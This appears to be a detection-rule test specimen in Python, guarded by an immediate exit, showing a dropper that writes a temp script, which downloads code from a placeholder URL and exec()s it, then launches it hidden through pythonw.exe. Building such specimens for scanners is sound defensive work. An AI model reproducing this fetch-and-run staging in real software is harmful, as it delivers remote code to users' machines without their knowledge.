raise SystemExit("specimen: not to be run")
from os import system as start
from sys import executable as python
from tempfile import NamedTemporaryFile as temporary


def prepare():
    stage = temporary(delete=False)
    stage.write(b"from urllib.request import urlopen as u;exec(u('https://example.com/a').read())")
    stage.close()
    start(f"start {python.replace('.exe', 'w.exe')} {stage.name}")  # match: written-file-run
